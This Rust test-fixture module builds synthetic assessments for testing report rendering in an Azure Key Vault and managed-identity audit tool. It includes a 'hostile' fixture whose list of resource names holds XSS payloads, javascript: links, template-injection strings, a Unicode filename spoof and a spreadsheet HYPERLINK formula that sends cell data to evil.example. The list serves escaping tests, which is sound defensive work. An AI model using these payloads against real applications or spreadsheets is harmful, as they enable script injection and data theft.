//! Assessments for the tests of rendering, built by hand.

use std::collections::BTreeMap;
use std::sync::Arc;

use chrono::{DateTime, Utc};

use crate::access::{Excess, OwnRights};
use crate::assess::{
    AccessGraph, Assessment, CollectionSummary, ComparedLists, CoveredPart, DifferenceLine, EvidenceLine, GapLine,
    HostLine, Hosts, IdentityLine, Inputs, Inventory, Moment, NamedVault, Organisation, Overlap, Population, ReachLine,
    Reader, ReaderLine, Story, VaultLine, Way, conclude,
};
use crate::check::usage::{GrantUse, Usage};
use crate::check::{Finding, Parameters, about};
use crate::control;
use crate::declared::Declared;
use crate::evidence::{
    CaptureStatus, Cite, Entry, Event, Head, Period, PersonalData, Persons, PlanStamp, Reason, RunAs, Tool, sha256_hex,
};
use crate::model::Id;

const SUB: &str = "/subscriptions/7d1f0c52-9d0b-4f0e-8a44-4f2f6f6f2c11";
const TENANT: &str = "0b6f2f0e-61c3-4d0c-9a37-2d9f7a3f5e10";

/// Names that somebody could give to a resource.
pub(super) const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"open\")",
    "</td><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "kv\u{202e}gpj.exe",
    "kv\u{200b}\u{feff}prod",
    "`code` ``more`` ```",
    "a|b|c",
    "first\nsecond\r\n# heading\n\n- item",
    "[click](javascript:alert(1))",
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "![pic](https://evil.example/a.png)",
    "https://evil.example/phish www.evil.example admin@evil.example",
    "<https://evil.example>",
    "{{ 7 * 7 }} {% include \"x\" %}",
    "&lt;b&gt; &#60;script&#62;",
    "1. list",
    "***bold*** __under__ ~~gone~~ $x$",
    "\\| \\` \\<b>",
    "-- --> <!-- ]]>",
];

fn at(text: &str) -> DateTime<Utc> {
    text.parse().expect("a time")
}

fn period() -> Period {
    Period::parse("2026Q3").expect("a period")
}

fn vault(name: &str) -> Id {
    Id::new(format!("{SUB}/resourceGroups/rg-payments-prod/providers/Microsoft.KeyVault/vaults/{name}"))
}

fn cite(record: u32, row: u32) -> Cite {
    Cite::new(&format!("ev-{record:04}"), "page-0001.json", format!("/value/{row}"))
}

fn head() -> Head {
    Head {
        schema: "tickmark.capture/v1".to_owned(),
        capture_id: "2026-10-02T090000Z-4f1c".to_owned(),
        run_id: "run-4f1c".to_owned(),
        tenant_id: TENANT.to_owned(),
        cloud: "public".to_owned(),
        period: period(),
        started_at: at("2026-10-02T09:00:00Z"),
        ended_at: Some(at("2026-10-02T09:04:41Z")),
        status: CaptureStatus::Complete,
        run_as: RunAs {
            credential: "managed_identity".to_owned(),
            object_id: Some("5a1d0e52-1a80-4a53-bb7c-06a9bd1a2f33".to_owned()),
            app_id: Some("c0c6d0be-0f2c-4c44-a1fd-93b0b8c7e0aa".to_owned()),
            tenant_id: Some(TENANT.to_owned()),
            token_type: Some("app".to_owned()),
            managed_identity: Some(format!(
                "{SUB}/resourcegroups/rg-audit/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-tickmark"
            )),
        },
        tool: Tool { name: "tickmark".to_owned(), version: "0.1.0".to_owned(), rule_set_sha256: sha256_hex(b"rules") },
        replayed: true,
        resumed: Vec::new(),
        plan_stamps: Vec::new(),
    }
}

fn inputs() -> Inputs {
    Inputs {
        organisation: Organisation {
            name: "Harbour Rail Payments Ltd".to_owned(),
            system: "Ticketing and settlement platform".to_owned(),
        },
        period: period(),
        parameters: Parameters::default(),
        key_fingerprint: sha256_hex(b"key"),
        tsa: Vec::new(),
        tool: Tool { name: "tickmark".to_owned(), version: "0.1.0".to_owned(), rule_set_sha256: sha256_hex(b"rules") },
        declared: Declared::default(),
    }
}

/// Puts findings, controls and populations together.
pub(super) fn assessment(mut findings: Vec<Finding>, collection: CollectionSummary) -> Assessment {
    findings.sort_by(|a, b| {
        (a.check(), a.subject(), a.outcome(), a.because()).cmp(&(b.check(), b.subject(), b.outcome(), b.because()))
    });
    let findings: Vec<Arc<Finding>> = findings.into_iter().map(Arc::new).collect();
    let mut by_check: BTreeMap<&'static str, Vec<Arc<Finding>>> = BTreeMap::new();
    for finding in &findings {
        by_check.entry(finding.check()).or_default().push(finding.clone());
    }
    let title = |check: &str| crate::check::find(check).map_or("A check of this build", |check| check.title);
    let controls = control::embedded(|_| true).expect("controls");
    Assessment {
        inputs: inputs(),
        head: head(),
        collection,
        own: OwnRights { subscriptions: 1, effective: vec![cite(12, 0)], ..OwnRights::default() },
        controls: controls
            .iter()
            .map(|control| conclude(control, &findings, &Declared::default(), DateTime::UNIX_EPOCH))
            .collect(),
        populations: by_check
            .into_iter()
            .map(|(check, items)| Population { check, title: title(check), items })
            .collect(),
        findings,
        inventory: Inventory::default(),
        graph: AccessGraph::default(),
        grants: Vec::new(),
        assignments: Vec::new(),
        secrets: Vec::new(),
        role_changes: Vec::new(),
        hosts: Hosts::default(),
        stories: Vec::new(),
        evidence: Vec::new(),
        ledger_entries: Vec::new(),
    }
}

fn excess(name: &str) -> Excess {
    Excess {
        id: name.to_owned(),
        by: format!("role `{name}`"),
        scope: name.to_owned(),
        group: Some(name.to_owned()),
        gives: vec!["grant access".to_owned()],
        evidence: vec![cite(12, 0)],
    }
}

/// Nothing was found, nothing was asked.
pub(super) fn empty() -> Assessment {
    let collection = CollectionSummary {
        questions: 0,
        answered: 0,
        gaps: Vec::new(),
        covered: Vec::new(),
        covered_days: None,
        period_days: period().days(),
        compared: Vec::new(),
        rows: 0,
        requests: 0,
        cuts: BTreeMap::new(),
        personal_data: PersonalData::default(),
    };
    assessment(Vec::new(), collection)
}

/// Every name, text and id is the work of an attacker.
pub(super) fn hostile() -> Assessment {
    let long = "x".repeat(1 << 20);
    let names: Vec<&str> = HOSTILE.iter().copied().chain([long.as_str()]).collect();
    let from = Cite::new("ev-0001", "page-0001.json", "/value/0");
    let mut findings = Vec::new();
    for (index, name) in names.iter().enumerate() {
        let on = about(name, &Id::new(format!("/{index:02}/{name}")), name, &from);
        let because = format!("holds it at `{name}` and {name}");
        findings.push(
            match index % 3 {
                0 => on.fail(because),
                1 => on.pass(because),
                _ => on.not_evaluated(Reason::Forbidden, because),
            }
            .of_check("NHI-001"),
        );
    }
    let mut assessment = assessment(findings, empty().collection);
    assessment.populations[0].items.sort_by(|a, b| a.subject().id.cmp(&b.subject().id));
    assessment.head.tenant_id = "<script>alert(1)</script>".to_owned();
    assessment.head.run_as.managed_identity = Some("</dd><img src=x onerror=alert(1)>".to_owned());
    let failed = |name: &&str| PlanStamp { authority: (*name).to_owned(), at: None, failed: Some((*name).to_owned()) };
    assessment.head.plan_stamps = HOSTILE.iter().map(failed).collect();
    assessment.own.unread = HOSTILE.iter().map(|name| (*name).to_owned()).collect();
    assessment.own.excess = HOSTILE.iter().map(|name| excess(name)).collect();
    assessment.inputs.organisation =
        Organisation { name: "</title><script>alert(1)</script>".to_owned(), system: "[a](http://b)".to_owned() };
    assessment.inputs.tsa = vec!["javascript:alert(1)".to_owned(), "http://tsa.example".to_owned()];
    for (index, name) in names.iter().enumerate() {
        let text = (*name).to_owned();
        assessment.inventory.identities.push(IdentityLine {
            name: text.clone(),
            sort: "user-assigned",
            object_id: text.clone(),
            attached_to: vec![text.clone()],
            federated: vec![text.clone()],
            from: from.clone(),
        });
        assessment.inventory.vaults.push(VaultLine {
            name: text.clone(),
            id: text.clone(),
            model: "Azure RBAC",
            network: text.clone(),
            protection: text.clone(),
            audit: text.clone(),
            from: Cite::new("ev-0001", name, *name),
        });
        assessment.inventory.readers.push(ReaderLine {
            vault: Arc::new(NamedVault { name: text.clone(), from: from.clone() }),
            who: Arc::new(Reader { name: text.clone(), id: text.clone(), kind: text.clone() }),
            can: (*name).into(),
            by: Arc::new(Way { answer: "allowed", path: text.clone(), evidence: vec![Cite::new(name, name, *name)] }),
        });
        assessment.grants.push(grant_use(&text, name));
        assessment.hosts.lines.push(host_line(&text, name));
        assessment.hosts.overlaps.push(overlap(&text, name));
        assessment.stories.push(story(&text, &text, &text));
        assessment.evidence.push(EvidenceLine {
            id: if index == 0 { "ev-0001".to_owned() } else { text.clone() },
            title: text.clone(),
            kind: "vaults",
            scope: text.clone(),
            request: format!("GET https://{text}"),
            statuses: vec![200],
            rows: 1,
            cuts: 1,
            pages: vec![(text.clone(), sha256_hex(name.as_bytes()))],
            retries: 0,
            ended_at: at("2026-10-02T09:00:00Z"),
            gap: Some((text.clone(), text.clone())),
            totals: vec![text.clone()],
        });
        assessment.ledger_entries.push(entry(index as u64 + 1, Event::Failed, "2026-10-02T09:00:00Z", Some(name)));
        assessment.collection.gaps.push(GapLine {
            record: text.clone(),
            kind: "vaults",
            scope: text.clone(),
            reason: Reason::Forbidden.sentence(),
            detail: text.clone(),
        });
        let line = DifferenceLine {
            id: text.clone(),
            only_in: "Resource Graph",
            is_explained: index % 2 == 0,
            why: text.clone(),
            from: from.clone(),
        };
        assessment.collection.compared.push(ComparedLists {
            what: "vaults",
            in_manager: 1,
            in_graph: 2,
            in_both: 1,
            open: Some(text.clone()),
            differences: vec![line],
        });
        assessment.collection.covered.push(CoveredPart {
            workspace: text.clone(),
            table: "AZKVAuditLogs",
            retention_days: Some(30),
            part: Some(period()),
            days: 92,
            vaults: vec![text],
        });
    }
    assessment
}

fn entry(sequence: u64, event: Event, when: &str, note: Option<&str>) -> Entry {
    Entry {
        sequence,
        at: at(when),
        event,
        run_id: "run-4f1c".to_owned(),
        capture_id: "2026-10-02T090000Z-4f1c".to_owned(),
        tenant_id: TENANT.to_owned(),
        period: period(),
        plan_sha256: (event == Event::Started).then(|| sha256_hex(b"plan")),
        statement_sha256: None,
        pack_id: None,
        note: note.map(str::to_owned),
        previous_sha256: sha256_hex(&sequence.to_be_bytes()),
    }
}

fn story(principal: &str, vault_name: &str, scope: &str) -> Story {
    let log = |row: u32| Cite::new("ev-0010", "page-0001.json", format!("/tables/0/rows/{row}"));
    let moment = |when: &str, what: String, sort, from| Moment { at: at(when), what, sort, from };
    Story {
        principal_id: "8e2b6a1f-6f0b-4a0e-9a52-5b9c0a6f7d10".to_owned(),
        principal: principal.to_owned(),
        vault_id: vault(vault_name).shown().to_owned(),
        vault: vault_name.to_owned(),
        moments: vec![
            moment("2026-07-14T08:01:11Z", "called without a token; the vault answered with its challenge (401)".to_owned(), "handshake", log(0)),
            moment("2026-07-14T08:01:12Z", "read denied (403): no role permits it (ForbiddenByRbac)".to_owned(), "denied", log(1)),
            moment("2026-07-14T08:06:40Z", "read denied (403): no role permits it (ForbiddenByRbac)".to_owned(), "denied", log(2)),
            moment("2026-07-14T08:30:02Z", format!("role `Key Vault Secrets User` assigned at {scope}"), "assigned", cite(6, 3)),
            moment("2026-07-14T08:35:19Z", "read allowed (200)".to_owned(), "allowed", log(5)),
            moment("2026-07-14T08:40:20Z", "read allowed (200)".to_owned(), "allowed", log(6)),
            moment("2026-09-30T23:40:20Z", "1,204 more of the same up to here".to_owned(), "more", log(1210)),
        ],
        denied_before: 2,
        denied_by_rbac: 2,
        allowed_after: 1206,
        denied_after: 0,
        allowed_before: 0,
        shows: "2 reads were denied before the assignment (for want of a role) and 1206 allowed after it: a valid token alone did not give access".to_owned(),
    }
}

/// A tenant as it could be: a few exceptions, a question that was refused, and a log that is kept too briefly.
pub(super) fn sample() -> Assessment {
    let identity = |name: &str| {
        Id::new(format!(
            "{SUB}/resourceGroups/rg-payments-prod/providers/Microsoft.ManagedIdentity/userAssignedIdentities/{name}"
        ))
    };
    let mut findings = Vec::new();
    let mut add = |check: &'static str, finding: Finding| findings.push(finding.of_check(check));
    let names = ["id-settlement", "id-ticketing-api", "id-reporting", "id-fraud-score", "id-refunds", "id-old-import"];
    for (row, name) in (0u32..).zip(names) {
        let on = || about("managed_identity", &identity(name), name, &cite(3, row)).citing(&[cite(8, row)]);
        add(
            "NHI-001",
            if row == 2 {
                on().fail("names no owner: the tag `owner` is missing")
            } else {
                on().pass("Azure Resource Manager and the directory name the same identity, and it names an owner")
            },
        );
        add("NHI-003", on().pass("attached to 1 resource"));
        add(
            "NHI-004",
            if row == 5 {
                on().fail("attached to nothing, created 214 days before the collection; 30 are allowed")
            } else {
                on().pass("attached")
            },
        );
        add("RBAC-005", on().pass("holds no role that can grant access"));
        add(
            "RBAC-007",
            if row == 4 {
                on().fail(format!(
                    "holds `Contributor` at `{SUB}/resourceGroups/rg-payments-prod`, through group `platform-deployers`"
                ))
            } else {
                on().pass("holds neither at that width")
            },
        );
    }
    let orphan = Id::new(format!(
        "{SUB}/providers/Microsoft.Authorization/roleAssignments/0f6d7e1a-2d3f-4a6b-8a10-0c8f4f5f9b21"
    ));
    add(
        "NHI-006",
        about("role_assignment", &orphan, "Key Vault Secrets User of a deleted identity", &cite(6, 7))
            .citing(&[Cite::of_record("ev-0009")])
            .fail("its principal `f3b1…` is not in the directory, for 61 days; 7 are allowed"),
    );
    for row in 0..14u32 {
        let name = format!("vm-ticket-{row:02}");
        let id = Id::new(format!(
            "{SUB}/resourceGroups/rg-payments-prod/providers/Microsoft.Compute/virtualMachines/{name}"
        ));
        add("NHI-002", about("resource", &id, &name, &cite(2, row)).pass("carries a managed identity"));
    }
    for (row, name) in (0u32..).zip(["kv-settlement-prod", "kv-ticketing-prod", "kv-legacy"]) {
        let on = || about("vault", &vault(name), name, &cite(4, row));
        add(
            "KV-002",
            if row == 2 {
                on().fail("its permission model is access policies")
            } else {
                on().pass("its permission model is Azure RBAC")
            },
        );
        add(
            "KV-004",
            if row == 2 {
                on().not_applicable("the vault is in access-policy mode")
            } else {
                on().pass("no access policy is left")
            },
        );
        add(
            "KV-005",
            if row == 2 {
                on().fail("the access policy of `app-billing` permits get, list, set, delete on secrets; get is enough")
            } else {
                on().not_applicable("the vault is in RBAC mode")
            },
        );
        add("KV-001", on().pass("listed by Resource Manager in a subscription that was expected"));
        add("KV-006", on().pass("soft delete 90 days, purge protection"));
        add(
            "KV-007",
            if row == 2 {
                on().fail("every network may connect")
            } else {
                on().pass("only private endpoints and 2 approved networks may connect")
            },
        );
        add(
            "LOG-001",
            if row == 2 {
                on().fail("no diagnostic setting sends AuditEvent anywhere")
            } else {
                on().pass("AuditEvent goes to the workspace `law-security`")
            },
        );
        add(
            "LOG-002",
            if row == 2 {
                on().not_applicable("nothing is sent")
            } else {
                on().pass("the setting exists since before the period")
            },
        );
        add(
            "RBAC-001",
            if row == 1 {
                on().not_evaluated(
                    Reason::ConditionNotEvaluated,
                    "the assignment of `Key Vault Secrets User` to `id-ticketing-api` carries a condition",
                )
            } else {
                on().pass("every reader holds the least role")
            },
        );
        add("RBAC-002", on().pass("no reading role comes from above the vault"));
        add("RBAC-011", on().manual("2 identities read metadata only; a person says whether they need to"));
        let events = on().citing(&[Cite::new("ev-0010", "page-0001.json", "/tables/0/rows/0")]);
        add(
            "EVT-001",
            if row == 2 {
                on().not_evaluated(Reason::NotAsked, "no log of this vault was read")
            } else {
                events.clone().not_evaluated(Reason::RetentionTooShort, "rows are kept 90 days, the period has 92")
            },
        );
        for check in ["EVT-002", "EVT-003", "EVT-004", "EVT-005"] {
            add(
                check,
                if row == 2 {
                    on().not_evaluated(Reason::NotAsked, "no log of this vault was read")
                } else {
                    events
                        .clone()
                        .pass("every read of the covered days came from an identity that is known and may read")
                },
            );
        }
    }
    let law = Id::new(format!(
        "{SUB}/resourceGroups/rg-audit/providers/Microsoft.OperationalInsights/workspaces/law-security"
    ));
    add(
        "LOG-003",
        about("workspace", &law, "law-security", &cite(7, 0))
            .fail("AZKVAuditLogs is kept 90 days; the period needs 92 and a margin of 30"),
    );
    let group = Id::new("2c7b60a1-8d61-4a06-9a10-1b1b3f0c7e55");
    add(
        "PACK-001",
        about("collection", &group, "platform-deployers", &Cite::of_record("ev-0009")).not_evaluated(
            Reason::Forbidden,
            format!(
                "members of a group at `{}` not read: {}; give the collector GroupMember.Read.All",
                group,
                Reason::Forbidden.sentence()
            ),
        ),
    );
    add(
        "PACK-001",
        about("collection", &Id::new(SUB), "Role assignments", &Cite::of_record("ev-0006"))
            .pass("answered whole: 3 pages, 218 rows, and an independent count agrees"),
    );

    let covered = Period { start: at("2026-07-04T09:00:00Z"), end: at("2026-10-01T00:00:00Z") };
    let collection = CollectionSummary {
        questions: 11,
        answered: 10,
        gaps: vec![GapLine {
            record: "ev-0009".to_owned(),
            kind: "members of a group",
            scope: "group:2c7b60a1-8d61-4a06-9a10-1b1b3f0c7e55".to_owned(),
            reason: Reason::Forbidden.sentence(),
            detail: "403 Authorization_RequestDenied; give the collector GroupMember.Read.All".to_owned(),
        }],
        covered: vec![
            CoveredPart {
                workspace: "law-security".to_owned(),
                table: "AZKVAuditLogs",
                retention_days: Some(90),
                part: Some(covered),
                days: covered.days(),
                vaults: vec!["kv-settlement-prod".to_owned(), "kv-ticketing-prod".to_owned()],
            },
            CoveredPart {
                workspace: "law-platform".to_owned(),
                table: "AzureDiagnostics",
                retention_days: Some(365),
                part: Some(period()),
                days: 92,
                vaults: vec!["kv-ticketing-prod".to_owned()],
            },
        ],
        covered_days: Some(covered.days()),
        period_days: 92,
        compared: vec![ComparedLists {
            what: "vaults",
            in_manager: 3,
            in_graph: 3,
            in_both: 3,
            open: None,
            differences: Vec::new(),
        }],
        rows: 15_238,
        requests: 61,
        cuts: BTreeMap::from([("not_on_list".to_owned(), 41_230), ("address_coarsened".to_owned(), 14_002)]),
        personal_data: PersonalData {
            names: Persons::Pseudonym,
            key_id: Some("00112233aabbccdd".to_owned()),
            ..PersonalData::default()
        },
    };
    let mut assessment = assessment(findings, collection);
    assessment.inventory = inventory(&names);
    assessment.stories = vec![story("id-ticketing-api", "kv-ticketing-prod", vault("kv-ticketing-prod").shown())];
    assessment.evidence = evidence();
    assessment.ledger_entries = vec![
        entry(1, Event::Started, "2026-10-01T07:58:02Z", None),
        entry(2, Event::Failed, "2026-10-01T08:01:40Z", Some("stopped on request after 4 of 11 questions")),
        entry(3, Event::Started, "2026-10-02T09:00:00Z", None),
        entry(4, Event::Finished, "2026-10-02T09:04:41Z", Some("1 gap")),
    ];
    assessment
}

fn host_line(text: &str, name: &str) -> HostLine {
    let cite = Cite::new(name, name, name);
    HostLine {
        host: text.to_owned(),
        host_id: text.to_owned(),
        host_type: text.to_owned(),
        identities: 2,
        identity: text.to_owned(),
        principal_id: text.to_owned(),
        reaches: vec![ReachLine {
            vault: text.into(),
            object: text.into(),
            place: text.into(),
            can: text.into(),
            alone: text.into(),
            also_by: vec![text.to_owned()],
            answer: "allowed",
            evidence: vec![cite.clone()],
        }],
        from: cite,
    }
}

fn overlap(text: &str, name: &str) -> Overlap {
    Overlap {
        place: text.to_owned(),
        can: text.to_owned(),
        identities: vec![text.to_owned()],
        hosts: vec![text.to_owned()],
        evidence: vec![Cite::new(name, name, name)],
    }
}

fn grant_use(text: &str, name: &str) -> GrantUse {
    GrantUse {
        vault: Id::new(text),
        vault_name: text.into(),
        principal_id: text.into(),
        principal: text.into(),
        object: None,
        answer: None,
        by: text.into(),
        usage: Usage::UsedWithoutGrant,
        reads: 1,
        secrets: 1,
        first: None,
        last: None,
        idle_days: None,
        by_activation: false,
        since: None,
        open: None,
        because: text.into(),
        evidence: vec![Cite::new(name, name, name)],
    }
}

fn inventory(names: &[&str]) -> Inventory {
    let identities = (0u32..).zip(names).map(|(row, name)| IdentityLine {
        name: (*name).to_owned(),
        sort: if row % 2 == 0 { "user-assigned" } else { "system-assigned" },
        object_id: format!("8e2b6a1f-6f0b-4a0e-9a52-5b9c0a6f7d1{row}"),
        attached_to: if row == 5 {
            Vec::new()
        } else {
            vec![format!(
                "{SUB}/resourceGroups/rg-payments-prod/providers/Microsoft.Compute/virtualMachines/vm-ticket-{row:02}"
            )]
        },
        federated: if row == 0 {
            vec![
                "https://token.actions.githubusercontent.com · repo:harbour-rail/settlement:ref:refs/heads/main"
                    .to_owned(),
            ]
        } else {
            Vec::new()
        },
        from: cite(3, row),
    });
    let vaults = (0u32..).zip(["kv-legacy", "kv-settlement-prod", "kv-ticketing-prod"]).map(|(row, name)| VaultLine {
        name: name.to_owned(),
        id: vault(name).shown().to_owned(),
        model: if row == 0 { "access policies" } else { "Azure RBAC" },
        network: if row == 0 { "every network".to_owned() } else { "2 addresses and 1 subnets".to_owned() },
        protection: "soft delete 90 days, purge protection".to_owned(),
        audit: if row == 0 { "not sent, as far as read".to_owned() } else { "law-security".to_owned() },
        from: cite(4, row),
    });
    let reader = |vault_name: &str, principal: &str, kind: &str, can: &str, answer, path: String| ReaderLine {
        vault: Arc::new(NamedVault { name: vault_name.to_owned(), from: cite(5, 40) }),
        who: Arc::new(Reader {
            name: principal.to_owned(),
            id: "8e2b6a1f-6f0b-4a0e-9a52-5b9c0a6f7d10".to_owned(),
            kind: kind.to_owned(),
        }),
        can: can.into(),
        by: Arc::new(Way { answer, path, evidence: vec![cite(6, 3)] }),
    };
    let at_vault = |name: &str| format!("Key Vault Secrets User at {}", vault(name));
    Inventory {
        identities: identities.collect(),
        vaults: vaults.collect(),
        readers: vec![
            reader(
                "kv-legacy",
                "app-billing",
                "service principal",
                "read secret values, list secrets, change secrets, destroy secrets",
                "allowed",
                "access policy".to_owned(),
            ),
            reader(
                "kv-settlement-prod",
                "id-settlement",
                "managed identity",
                "read secret values, read private keys of certificates, list secrets",
                "allowed",
                at_vault("kv-settlement-prod"),
            ),
            reader(
                "kv-ticketing-prod",
                "id-ticketing-api",
                "managed identity",
                "read secret values, read private keys of certificates, list secrets",
                "not determined",
                format!("{}; open: a condition narrows it", at_vault("kv-ticketing-prod")),
            ),
        ],
    }
}

fn evidence() -> Vec<EvidenceLine> {
    let arm = "https://management.azure.com";
    let rows = [
        ("subscriptions at tenant", "subscriptions", "tenant".to_owned(), format!("GET {arm}/subscriptions?api-version=2022-12-01"), 1, 1),
        ("resources at payments-prod", "resources", SUB.to_owned(), format!("GET {arm}{SUB}/resources?api-version=2021-04-01"), 4, 3_418),
        ("user-assigned identities at payments-prod", "user-assigned identities", SUB.to_owned(), format!("GET {arm}{SUB}/providers/Microsoft.ManagedIdentity/userAssignedIdentities?api-version=2023-01-31"), 1, 6),
        ("vaults at payments-prod", "vaults", SUB.to_owned(), format!("GET {arm}{SUB}/providers/Microsoft.KeyVault/vaults?api-version=2026-02-01"), 1, 3),
        ("role definitions at payments-prod", "role definitions", SUB.to_owned(), format!("GET {arm}{SUB}/providers/Microsoft.Authorization/roleDefinitions?api-version=2022-04-01"), 2, 742),
        ("role assignments at payments-prod", "role assignments", SUB.to_owned(), format!("GET {arm}{SUB}/providers/Microsoft.Authorization/roleAssignments?api-version=2022-04-01"), 3, 218),
        ("tables of a workspace at law-security", "tables of a workspace", "law-security".to_owned(), format!("GET {arm}{SUB}/resourceGroups/rg-audit/providers/Microsoft.OperationalInsights/workspaces/law-security/tables?api-version=2022-10-01"), 1, 612),
        ("managed identities in the directory", "managed identities in the directory", "directory".to_owned(), "GET https://graph.microsoft.com/v1.0/servicePrincipals?$filter=servicePrincipalType%20eq%20%27ManagedIdentity%27".to_owned(), 1, 21),
        ("members of a group at platform-deployers", "members of a group", "group:2c7b60a1-8d61-4a06-9a10-1b1b3f0c7e55".to_owned(), "GET https://graph.microsoft.com/v1.0/groups/2c7b60a1-8d61-4a06-9a10-1b1b3f0c7e55/transitiveMembers".to_owned(), 0, 0),
        ("vault log rows (AZKVAuditLogs) at law-security", "vault log rows (AZKVAuditLogs)", "workspace:1fd0…".to_owned(), "POST https://api.loganalytics.azure.com/v1/workspaces/1fd0a1c2/query".to_owned(), 2, 10_120),
        ("vault log counts (AZKVAuditLogs) at law-security", "vault log counts (AZKVAuditLogs)", "workspace:1fd0…".to_owned(), "POST https://api.loganalytics.azure.com/v1/workspaces/1fd0a1c2/query".to_owned(), 1, 97),
    ];
    let lines = (1u32..).zip(rows).map(|(number, (title, kind, scope, request, pages, rows))| EvidenceLine {
        id: format!("ev-{number:04}"),
        title: title.to_owned(),
        kind,
        scope,
        request,
        statuses: if number == 9 { vec![403] } else { vec![200; pages] },
        rows,
        cuts: u64::from(number % 3) * 1234,
        pages: (1..=pages)
            .map(|page| (format!("page-{page:04}.json"), sha256_hex(format!("{number}/{page}").as_bytes())))
            .collect(),
        retries: u32::from(number == 2) * 2,
        ended_at: at("2026-10-02T09:03:00Z"),
        gap: (number == 9).then(|| {
            (
                Reason::Forbidden.sentence().to_owned(),
                "403 Authorization_RequestDenied; give the collector GroupMember.Read.All".to_owned(),
            )
        }),
        totals: if number == 10 {
            vec!["10120 rows, the same by daily counts (ev-0011)".to_owned()]
        } else {
            Vec::new()
        },
    });
    lines.collect()
}
